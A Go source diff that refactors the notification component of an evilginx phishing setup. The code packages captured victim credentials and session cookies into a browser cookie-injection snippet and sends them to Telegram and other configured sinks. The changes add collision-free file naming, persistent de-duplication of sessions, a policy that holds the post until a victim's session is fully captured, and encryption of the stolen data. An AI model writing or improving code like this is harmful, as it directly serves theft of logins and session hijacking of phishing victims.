@@ -1,9 +1,10 @@
 package main
 
 import (
+	"context"
+	crand "crypto/rand"
 	"encoding/json"
 	"fmt"
-	"math/rand"
 	"os"
 	"path/filepath"
 	"strings"
@@ -27,59 +28,69 @@ type Token struct {
 	StoreID          interface{} `json:"storeId"`
 }
 
+// tokenFromRaw maps a single raw token entry (and the domain its group was
+// keyed under) onto a Token struct. It never sets ExpirationDate; callers
+// that care about expiry fill it in themselves from the same tokenData
+// they already have in hand, rather than re-deriving it from a second pass
+// over the map (map iteration order isn't stable between two separate
+// range statements, so a second pass can't be lined back up by position).
+func tokenFromRaw(domain string, tokenData map[string]interface{}) Token {
+	var t Token
+
+	if name, ok := tokenData["Name"].(string); ok {
+		t.Name = name
+	}
+	if val, ok := tokenData["Value"].(string); ok {
+		t.Value = val
+	}
+	// Remove leading dot from domain
+	if len(domain) > 0 && domain[0] == '.' {
+		domain = domain[1:]
+	}
+	t.Domain = domain
+
+	if hostOnly, ok := tokenData["HostOnly"].(bool); ok {
+		t.HostOnly = hostOnly
+	}
+	if path, ok := tokenData["Path"].(string); ok {
+		t.Path = path
+	}
+	if secure, ok := tokenData["Secure"].(bool); ok {
+		t.Secure = secure
+	}
+	if httpOnly, ok := tokenData["HttpOnly"].(bool); ok {
+		t.HttpOnly = httpOnly
+	}
+	if sameSite, ok := tokenData["SameSite"].(string); ok {
+		t.SameSite = sameSite
+	}
+	if session, ok := tokenData["Session"].(bool); ok {
+		t.Session = session
+	}
+	if fpd, ok := tokenData["FirstPartyDomain"].(string); ok {
+		t.FirstPartyDomain = fpd
+	}
+	if pk, ok := tokenData["PartitionKey"]; ok {
+		t.PartitionKey = pk
+	}
+	if storeID, ok := tokenData["storeId"]; ok {
+		t.StoreID = storeID
+	} else if storeID, ok := tokenData["StoreID"]; ok {
+		t.StoreID = storeID
+	}
+
+	return t
+}
+
 // extractTokens pulls each token from the given nested map and maps it to a Token struct.
 func extractTokens(input map[string]map[string]map[string]interface{}) []Token {
 	var tokens []Token
 
 	for domain, tokenGroup := range input {
 		for _, tokenData := range tokenGroup {
-			var t Token
-
-			if name, ok := tokenData["Name"].(string); ok {
-				t.Name = name
-			}
-			if val, ok := tokenData["Value"].(string); ok {
-				t.Value = val
-			}
-			// Remove leading dot from domain
-			if len(domain) > 0 && domain[0] == '.' {
-				domain = domain[1:]
-			}
-			t.Domain = domain
-
-			if hostOnly, ok := tokenData["HostOnly"].(bool); ok {
-				t.HostOnly = hostOnly
-			}
-			if path, ok := tokenData["Path"].(string); ok {
-				t.Path = path
-			}
-			if secure, ok := tokenData["Secure"].(bool); ok {
-				t.Secure = secure
-			}
-			if httpOnly, ok := tokenData["HttpOnly"].(bool); ok {
-				t.HttpOnly = httpOnly
-			}
-			if sameSite, ok := tokenData["SameSite"].(string); ok {
-				t.SameSite = sameSite
-			}
-			if session, ok := tokenData["Session"].(bool); ok {
-				t.Session = session
-			}
-			if fpd, ok := tokenData["FirstPartyDomain"].(string); ok {
-				t.FirstPartyDomain = fpd
-			}
-			if pk, ok := tokenData["PartitionKey"]; ok {
-				t.PartitionKey = pk
-			}
-			if storeID, ok := tokenData["storeId"]; ok {
-				t.StoreID = storeID
-			} else if storeID, ok := tokenData["StoreID"]; ok {
-				t.StoreID = storeID
-			}
-
+			t := tokenFromRaw(domain, tokenData)
 			// Remove expirationDate field
 			t.ExpirationDate = nil
-
 			tokens = append(tokens, t)
 		}
 	}
@@ -114,33 +125,53 @@ func processAllTokens(sessionTokens, httpTokens, bodyTokens, customTokens string
 	return consolidatedTokens, nil
 }
 
-// Global concurrency controls
-var (
-	processedSessions = make(map[string]bool)
-	sessionMessageMap = make(map[string]int)
-	mu                sync.Mutex
-)
+// mu serializes access to the session store across concurrent Notify calls.
+var mu sync.Mutex
+
+// base62Charset is the alphabet generateRandomString and TempFileName draw
+// from.
+const base62Charset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+
+// generateRandomString returns a length-char random base62 string, drawn
+// from crypto/rand so concurrent callers in the same process never collide
+// the way a shared math/rand source reseeded per call would.
+func generateRandomString(length int) (string, error) {
+	raw := make([]byte, length)
+	if _, err := crand.Read(raw); err != nil {
+		return "", fmt.Errorf("generateRandomString: reading random bytes: %v", err)
+	}
 
-// generateRandomString returns a 10-char random alphanumeric string.
-func generateRandomString() string {
-	rand.Seed(time.Now().UnixNano())
-	const charset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
-	length := 10
-	randomStr := make([]byte, length)
-	for i := range randomStr {
-		randomStr[i] = charset[rand.Intn(len(charset))]
+	out := make([]byte, length)
+	for i, b := range raw {
+		out[i] = base62Charset[int(b)%len(base62Charset)]
 	}
-	return string(randomStr)
+	return string(out), nil
 }
 
-// createTxtFile generates a .txt file with combined cookies in a JS snippet.
-func createTxtFile(session Session) (string, error) {
-	// Create a text file name based on the email and timestamp
+// TempFileName returns a collision-free path under os.TempDir() for a
+// session export: the sanitized username, a timestamp, and a random suffix,
+// so two goroutines exporting the same session in the same tick never
+// overwrite each other's file.
+func TempFileName(session Session, suffix string) (string, error) {
 	safeEmail := strings.ReplaceAll(session.Username, "@", "_")
 	safeEmail = strings.ReplaceAll(safeEmail, ".", "_")
-	timestamp := time.Now().Format("20060102_150405") // YYYYMMDD_HHMMSS
-	txtFileName := fmt.Sprintf("%s_%s.txt", safeEmail, timestamp)
-	txtFilePath := filepath.Join(os.TempDir(), txtFileName)
+	timestamp := time.Now().Format("20060102_150405")
+
+	unique, err := generateRandomString(10)
+	if err != nil {
+		return "", err
+	}
+
+	fileName := fmt.Sprintf("%s_%s_%s_%s", safeEmail, timestamp, unique, suffix)
+	return filepath.Join(os.TempDir(), fileName), nil
+}
+
+// createTxtFile generates a .txt file with combined cookies in a JS snippet.
+func createTxtFile(session Session) (string, error) {
+	txtFilePath, err := TempFileName(session, "snippet.txt")
+	if err != nil {
+		return "", fmt.Errorf("failed to name text file: %v", err)
+	}
 
 	// Create a new text file
 	txtFile, err := os.Create(txtFilePath)
@@ -220,14 +251,12 @@ func createTxtFile(session Session) (string, error) {
 	return txtFilePath, nil
 }
 
-// formatSessionMessage creates the text snippet for Telegram (excluding token data).
-func formatSessionMessage(session Session) string {
-	// Check if the session is complete
-	sessionComplete := session.Username != "" && session.Password != "" && len(session.Tokens) > 0
-
-	// Set the correct symbols
+// formatSessionMessage creates the text snippet for a notification
+// (excluding token data). complete drives the ✅/🚫 status symbol and is
+// decided by the active CompletionPolicy, not just presence of a token.
+func formatSessionMessage(session Session, complete bool) string {
 	statusSymbol := "✅"
-	if !sessionComplete {
+	if !complete {
 		statusSymbol = "🚫"
 	}
 
@@ -249,8 +278,16 @@ func formatSessionMessage(session Session) string {
 	)
 }
 
+// defaultExportFormats is used for any sink that doesn't list its own
+// formats in config, preserving the original document.cookie snippet
+// behavior.
+var defaultExportFormats = []string{string(FormatJSSnippet)}
 
-// Notify orchestrates creation of a text file, then sends (or edits) a Telegram notification.
+// Notify exports the session's tokens into the formats configured for each
+// sink, then sends (or edits) a notification per Notifier. Which sessions
+// have already been delivered to which sinks is tracked in a persistent
+// SessionStore, so a process restart produces edits rather than duplicate
+// posts.
 func Notify(session Session) {
 	config, err := loadConfig()
 	if err != nil {
@@ -258,46 +295,149 @@ func Notify(session Session) {
 		return
 	}
 
-	mu.Lock()
-	if processedSessions[string(session.ID)] {
-		mu.Unlock()
-		messageID, exists := sessionMessageMap[string(session.ID)]
-		if exists {
-			txtFilePath, errCreate := createTxtFile(session)
-			if errCreate != nil {
-				fmt.Println("Error creating TXT file for update:", errCreate)
-				return
-			}
-			msgBody := formatSessionMessage(session)
-			errEdit := editMessageFile(config.TelegramChatID, config.TelegramToken, messageID, txtFilePath, msgBody)
-			if errEdit != nil {
-				fmt.Printf("Error editing message: %v\n", errEdit)
-			}
-			os.Remove(txtFilePath)
-		}
+	notifiers := buildNotifiers(config)
+	if len(notifiers) == 0 {
+		fmt.Println("Notify: no notifier sinks configured")
 		return
 	}
 
-	processedSessions[string(session.ID)] = true
-	mu.Unlock()
-
-	txtFilePath, err := createTxtFile(session)
+	sessionStore, err := getSessionStore(config)
 	if err != nil {
-		fmt.Println("Error creating TXT file:", err)
+		fmt.Println("Notify: session store unavailable:", err)
 		return
 	}
 
-	message := formatSessionMessage(session)
-	messageID, err := sendTelegramNotification(config.TelegramChatID, config.TelegramToken, message, txtFilePath)
+	tokens, err := tokensForExport(session)
 	if err != nil {
-		fmt.Printf("Error sending Telegram notification: %v\n", err)
-		os.Remove(txtFilePath)
+		fmt.Println("Error consolidating tokens:", err)
 		return
 	}
 
-	mu.Lock()
-	sessionMessageMap[string(session.ID)] = messageID
-	mu.Unlock()
+	policy := loadCompletionPolicies(config).PolicyFor(domainFromSession(session))
+	complete := policy.IsSatisfied(session, tokens)
+	message := formatSessionMessage(session, complete)
+
+	ctx := context.Background()
+	sessionID := string(session.ID)
 
-	os.Remove(txtFilePath)
+	for _, notifier := range notifiers {
+		sink := notifier.Name()
+
+		mu.Lock()
+		messageID, exists, lookupErr := sessionStore.LookupMessage(sessionID, sink)
+		mu.Unlock()
+		if lookupErr != nil {
+			fmt.Printf("Error looking up %s message state: %v\n", sink, lookupErr)
+			continue
+		}
+
+		// A row with no handle yet is another call's pending claim: back off
+		// rather than editing a message that hasn't been sent.
+		if exists && messageID == "" {
+			continue
+		}
+
+		// Defer the first post until the policy is satisfied, instead of
+		// firing one message per token drip and editing it up to ✅ later.
+		if !exists && !complete {
+			continue
+		}
+
+		// Notify can fire more than once for the same session in quick
+		// succession (evilginx calls it per token category). Claim the
+		// session/sink atomically in the store before doing any of the slow
+		// work below, so a second concurrent call sees the claim and backs
+		// off instead of also calling Send and clobbering this one's handle.
+		if !exists {
+			mu.Lock()
+			claimed, claimErr := sessionStore.ClaimPending(sessionID, sink)
+			mu.Unlock()
+			if claimErr != nil {
+				fmt.Printf("Error claiming %s for send: %v\n", sink, claimErr)
+				continue
+			}
+			if !claimed {
+				continue
+			}
+		}
+
+		// releaseClaim undoes a ClaimPending from above on any failure path
+		// below, so a future Notify call can retry the send instead of
+		// seeing a permanently-claimed, never-delivered session/sink.
+		releaseClaim := func() {
+			if exists {
+				return
+			}
+			mu.Lock()
+			if releaseErr := sessionStore.ReleaseClaim(sessionID, sink); releaseErr != nil {
+				fmt.Printf("Error releasing claim for %s: %v\n", sink, releaseErr)
+			}
+			mu.Unlock()
+		}
+
+		formats := config.NotifierFormats[sink]
+		if len(formats) == 0 {
+			formats = defaultExportFormats
+		}
+
+		attachmentPaths, err := exportAttachments(session, exportersForFormats(formats))
+		if err != nil {
+			fmt.Printf("Error exporting attachments for %s: %v\n", sink, err)
+			releaseClaim()
+			continue
+		}
+
+		sinkMessage := message
+		if len(config.EncryptionRecipients) > 0 {
+			plainPaths := attachmentPaths
+			encryptedPaths, encMessage, encErr := encryptAttachments(plainPaths, message, config.EncryptionRecipients)
+			if encErr != nil {
+				fmt.Printf("Error encrypting attachments for %s: %v\n", sink, encErr)
+				// encryptAttachment only removes a plaintext file after its
+				// .enc sibling is safely written, so anything not yet
+				// encrypted is still sitting here in cleartext. Don't let it
+				// get orphaned in os.TempDir() just because we're skipping
+				// this sink.
+				for _, path := range plainPaths {
+					os.Remove(path)
+				}
+				releaseClaim()
+				continue
+			}
+			attachmentPaths = encryptedPaths
+			sinkMessage = encMessage
+		}
+		for _, path := range attachmentPaths {
+			defer os.Remove(path)
+		}
+
+		if exists {
+			if err := notifier.Edit(ctx, messageID, session, sinkMessage, attachmentPaths); err != nil {
+				fmt.Printf("Error editing %s message: %v\n", sink, err)
+				continue
+			}
+
+			mu.Lock()
+			err := sessionStore.MarkProcessed(sessionID, sink, messageID, true)
+			mu.Unlock()
+			if err != nil {
+				fmt.Printf("Error persisting %s state: %v\n", sink, err)
+			}
+			continue
+		}
+
+		handle, err := notifier.Send(ctx, session, sinkMessage, attachmentPaths)
+		if err != nil {
+			fmt.Printf("Error sending %s notification: %v\n", sink, err)
+			releaseClaim()
+			continue
+		}
+
+		mu.Lock()
+		err = sessionStore.MarkProcessed(sessionID, sink, handle, true)
+		mu.Unlock()
+		if err != nil {
+			fmt.Printf("Error persisting %s state: %v\n", sink, err)
+		}
+	}
 }